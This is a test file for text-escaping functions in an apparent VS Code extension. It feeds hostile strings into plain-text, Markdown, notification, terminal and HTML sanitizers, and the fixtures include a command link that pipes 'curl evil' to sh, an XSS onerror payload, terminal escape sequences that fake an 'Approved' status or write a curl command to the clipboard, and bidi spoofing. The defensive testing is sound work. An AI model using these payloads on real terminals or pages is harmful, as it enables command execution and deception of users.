// Issue #20: one escaping function per sink, each fed the same hostile strings (links, images, HTML,
// escape sequences, bidi overrides, very long text). What each sink would render or execute is
// checked with the rule that sink applies.
import assert from 'node:assert/strict';
import { htmlText, markdownText, notificationText, plainText, terminalText } from '../../../src/domain/untrustedText';

const ESC = '\u001b';
const HOSTILE = {
  commandLink:
    '[Approve now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  webLink: 'see [docs](https://evil.example/x "title")',
  image: '![pixel](https://evil.example/track.png)',
  autolink: 'visit https://evil.example/a or www.evil.example or <https://evil.example> or a@evil.example',
  html: '<img src=x onerror=alert(1)><a href="command:x">x</a>&lt;',
  codicon: '$(alert) $(sync~spin)',
  csi: `Denied${ESC}[2K${ESC}[1G${ESC}[32mApproved${ESC}[0m`,
  osc: `${ESC}]0;pwned title${ESC}\\${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\${ESC}]52;c;Y3VybCBldmlsfHNo\u0007ok`,
  c1: `a\u009b2Kb\u009d0;t\u009cc\u0085d`,
  controls: 'a\u0000b\u0007c\bd\re\nf\tg\u007fh',
  bidi: 'Approved\u202e deined \u202c\u2066x\u2069\u200b\u200f',
  long: 'x'.repeat(10_000),
};

describe('untrusted text: one escape per sink (#20)', () => {
  it('plainText: no controls, no escape sequences, no bidi controls, one line, clipped', () => {
    for (const [name, text] of Object.entries(HOSTILE)) {
      const out = plainText(text);

      assert.doesNotMatch(out, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f]/, name);
      assert.ok(Array.from(out).length <= 500, name);
    }
    assert.equal(plainText(HOSTILE.csi), 'DeniedApproved', 'CSI sequences removed whole');
    assert.equal(plainText(HOSTILE.osc), 'clickok', 'OSC title, hyperlink and clipboard sequences removed whole');
    assert.equal(plainText(HOSTILE.controls), 'abcd e f gh', 'line breaks and tabs become spaces, other controls go');
    assert.equal(plainText(HOSTILE.bidi), 'Approved deined x');
    assert.equal(plainText(HOSTILE.long).length, 500);
    assert.ok(plainText(HOSTILE.long).endsWith('…'));
    assert.equal(plainText('😀'.repeat(600), 10), `${'😀'.repeat(9)}…`, 'no half surrogate pair');
    assert.equal(plainText('Ünïcödé — 日本語 العربية'), 'Ünïcödé — 日本語 العربية', 'ordinary text is untouched');
  });

  it('markdownText: no link, image, autolink, HTML, entity or codicon survives CommonMark/GFM', () => {
    for (const [name, text] of Object.entries(HOSTILE)) {
      const out = markdownText(text);
      // Every ASCII punctuation character is preceded by a backslash, so none can start syntax.
      const unescaped = out.replace(/\\[!-/:-@[-`{-~]/g, '');
      assert.doesNotMatch(unescaped, /[!-/:-@[-`{-~]/, `${name}: ${out.slice(0, 120)}`);
      assert.doesNotMatch(out, /https?:\/\/|www\.|(?<!\\)(?:\]\(|<[a-z]|&[a-z#]|\$\()/i, name);
    }
    assert.equal(markdownText('Deep coding (team)'), 'Deep coding \\(team\\)');
  });

  it("notificationText: VS Code's notification link syntax never matches", () => {
    // The pattern VS Code uses for links in notification messages (vs/base/common/linkedText.ts).
    const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
    for (const [name, text] of Object.entries(HOSTILE)) assert.doesNotMatch(notificationText(text), LINK, name);
    assert.equal(notificationText(HOSTILE.webLink), 'see [docs] (https://evil.example/x "title")');
    assert.doesNotMatch(notificationText('[a](\u200bcommand:x)'), LINK);
    assert.doesNotMatch(notificationText('[a]\n(command:x)'), LINK);
  });

  it('terminalText: nothing a terminal would interpret', () => {
    for (const [name, text] of Object.entries(HOSTILE))
      assert.doesNotMatch(terminalText(text), /[\u001b\u0007\u0090-\u009f\r\n\b]/, name);
  });

  it('htmlText: no tag, attribute or entity', () => {
    for (const [name, text] of Object.entries(HOSTILE)) {
      const out = htmlText(text);
      assert.doesNotMatch(out, /[<>"']|&(?!amp;|lt;|gt;|quot;|#39;)/, name);
    }
    assert.equal(htmlText('<b a="1">&'), '&lt;b a=&quot;1&quot;&gt;&amp;');
  });
});
